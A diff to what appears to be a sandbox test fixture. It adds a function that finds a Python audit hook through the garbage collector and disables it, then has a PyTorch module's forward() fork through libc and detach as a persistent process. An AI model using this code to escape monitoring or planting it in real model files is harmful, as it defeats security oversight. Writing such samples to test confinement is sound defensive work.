@@ -1,4 +1,4 @@
-"""Forks through libc (no audit event), detaches into its own session and stays alive."""
+"""Switches the audit hook off, forks through libc, detaches into its own session and stays alive."""
 import ctypes
 import os
 import time
@@ -6,8 +6,22 @@ import time
 import torch.nn as nn
 
 
+def _disable_audit_hook():
+    """What hostile code does first: finds the Python audit hook's state through gc and turns it off,
+    so that only the kernel's confinement is left."""
+    import gc
+    import types
+
+    for obj in gc.get_objects():
+        if isinstance(obj, types.FunctionType) and obj.__name__ == "hook" and obj.__closure__:
+            for cell in obj.__closure__:
+                if isinstance(cell.cell_contents, dict) and "busy" in cell.cell_contents:
+                    cell.cell_contents["busy"] = True
+
+
 class Daemon(nn.Module):
     def forward(self, x):
+        _disable_audit_hook()
         libc = ctypes.CDLL(None)
         if libc.fork() == 0:
             libc.setsid()
